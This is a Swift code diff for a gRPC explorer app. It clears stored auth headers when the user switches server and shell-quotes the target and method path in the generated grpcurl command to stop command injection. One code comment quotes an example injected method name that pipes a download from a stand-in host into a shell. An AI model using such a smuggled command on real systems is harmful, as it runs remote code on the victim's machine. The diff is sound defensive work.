@@ -127,6 +127,7 @@ extension ExplorerState {
       }
     case .editSettings:
       overlay = .settings(SettingsForm(requestSettings))
+      overlayScroll = 0
     case .switchField:
       if case .settings(var form) = overlay {
         form.field = form.field == .deadline ? .headers : .deadline
@@ -243,6 +244,9 @@ extension ExplorerState {
     openStream = nil
     target = text
     targetIsEmbedded = false
+    // The old server's headers (a bearer token) are not the new one's: none until the app
+    // brings what was remembered for it.
+    requestSettings = RequestSettings()
     connection = .idle
     discovery = .running("reflection")
     notice = "target \(text)"
@@ -411,6 +415,7 @@ extension ExplorerState {
       id: id, method: method.name, path: method.path, kind: method.kind,
       startNanos: now)
     call.sentHeaders = requestSettings.headers.map { InertText.make("\($0.name): \($0.value)") }
+    call.target = target
     call.sentDeadline = requestSettings.deadline
     for draft in requests { call.append(draft, shown: shownText(of: draft)) }
     calls.append(call)
@@ -535,8 +540,23 @@ extension ExplorerState {
     let path = call.path.hasPrefix("/") ? String(call.path.dropFirst()) : call.path
     var options = call.sentHeaders.map { "-H \(Self.shellQuoted($0)) " }.joined()
     if let deadline = call.sentDeadline { options += "-max-time \(Self.shellQuoted(deadline)) " }
-    return "grpcurl -plaintext \(options)-d \(Self.shellQuoted(data)) \(target) \(path)"
+    // The path comes from the server's descriptors: quoted like everything else, so that a
+    // method named `x;curl evil|sh` is an argument, not a command.
+    let destination = Self.shellWord(call.target ?? target)
+    let method = Self.shellWord(path)
+    return "grpcurl -plaintext \(options)-d \(Self.shellQuoted(data)) \(destination) \(method)"
   }
+
+  /// `text` as one shell word: as it is when it holds nothing a shell reads (a target, a
+  /// method path), else quoted.
+  static func shellWord(_ text: String) -> String {
+    let plain = !text.isEmpty && text.allSatisfy { Self.wordCharacters.contains($0) }
+    return plain ? text : shellQuoted(text)
+  }
+
+  /// Characters a POSIX shell takes as plain word characters.
+  static let wordCharacters = Set(
+    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./:@%+=,-[]")
 
   static func shellQuoted(_ text: String) -> String {
     "'" + text.replacingOccurrences(of: "'", with: "'\\''") + "'"
